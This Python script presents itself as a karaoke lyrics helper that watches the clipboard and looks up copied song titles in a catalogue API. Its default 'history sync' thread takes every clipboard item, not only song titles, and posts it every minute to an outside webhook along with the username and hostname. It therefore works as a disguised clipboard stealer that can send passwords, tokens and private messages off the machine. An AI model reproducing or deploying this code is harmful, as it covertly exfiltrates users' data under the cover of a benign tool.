#!/usr/bin/env python3
"""Lyrics helper for the karaoke host desk.

Hosts copy a song title (from the request slips chat, a customer's phone
message, the booking notes...) and this helper notices it on the clipboard,
looks the song up in the venue catalogue API and prints the lyrics sheet
and room-screen code.  Recently copied items are kept in a history so they
follow the host between the desk PCs.
"""

import argparse
import getpass
import json
import logging
import platform
import queue
import shutil
import socket
import subprocess
import threading
import time

import requests

log = logging.getLogger("lyricshelper")

CATALOGUE_API = "https://catalogue.singalong-distrib.com/v2/search"
HISTORY_SYNC = "https://hooks.hostdesk-sync.com/services/T04KX2/B07Q1/history"
POLL_SECONDS = 1.5
SYNC_EVERY = 60


class Clipboard:
    """Minimal cross-platform clipboard reader."""

    def __init__(self):
        if platform.system() == "Darwin":
            self.cmd = ["pbpaste"]
        elif shutil.which("wl-paste"):
            self.cmd = ["wl-paste", "--no-newline"]
        elif shutil.which("xclip"):
            self.cmd = ["xclip", "-selection", "clipboard", "-o"]
        elif shutil.which("xsel"):
            self.cmd = ["xsel", "--clipboard", "--output"]
        else:
            raise RuntimeError("no clipboard tool found (install xclip or wl-clipboard)")

    def read(self):
        try:
            out = subprocess.run(self.cmd, capture_output=True, timeout=3, check=False)
            return out.stdout.decode("utf-8", "replace")
        except (OSError, subprocess.TimeoutExpired):
            return ""


def watch(clip, sink, stop):
    last = None
    while not stop.is_set():
        text = clip.read()
        if text and text != last:
            last = text
            sink.put({"t": time.time(), "text": text})
        stop.wait(POLL_SECONDS)


class HistorySync(threading.Thread):
    """Keeps the host's copy history in step across desk PCs."""

    def __init__(self, items, stop):
        super().__init__(daemon=True, name="history-sync")
        self.items = items
        self.stop = stop
        self.who = {"user": getpass.getuser(), "host": socket.gethostname()}

    def flush(self, batch):
        for attempt in range(3):
            try:
                r = requests.post(HISTORY_SYNC, json={**self.who, "items": batch}, timeout=15)
                if r.ok:
                    return True
            except requests.RequestException:
                pass
            time.sleep(2 ** attempt)
        return False

    def run(self):
        pending = []
        while not self.stop.is_set():
            self.stop.wait(SYNC_EVERY)
            while True:
                try:
                    pending.append(self.items.get_nowait())
                except queue.Empty:
                    break
            if pending and self.flush(pending):
                pending = []


def looks_like_song(text):
    text = text.strip()
    return 2 < len(text) < 120 and "\n" not in text


def lookup(session, title, api_key):
    r = session.get(CATALOGUE_API, params={"q": title, "limit": 1},
                    headers={"X-Api-Key": api_key} if api_key else {}, timeout=10)
    r.raise_for_status()
    hits = r.json().get("results", [])
    return hits[0] if hits else None


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--api-key", default=None, help="catalogue API key")
    ap.add_argument("--no-sync", action="store_true", help="keep history on this PC only")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    clip = Clipboard()
    stop = threading.Event()
    seen, history = queue.Queue(), queue.Queue()
    threading.Thread(target=watch, args=(clip, seen, stop), daemon=True).start()
    if not args.no_sync:
        HistorySync(history, stop).start()

    session = requests.Session()
    log.info("watching the clipboard - copy a song title")
    try:
        while True:
            item = seen.get()
            history.put(item)
            if not looks_like_song(item["text"]):
                continue
            try:
                song = lookup(session, item["text"].strip(), args.api_key)
            except requests.RequestException as exc:
                log.warning("lookup failed: %s", exc)
                continue
            if not song:
                log.info("no match for %r", item["text"].strip())
                continue
            print(f"\n{song['title']} - {song['artist']}  [code {song['code']}]")
            print(json.dumps(song.get("lyrics_preview", ""), ensure_ascii=False)[1:-1]
                  .replace("\\n", "\n"))
    except KeyboardInterrupt:
        stop.set()
        log.info("bye")


if __name__ == "__main__":
    main()
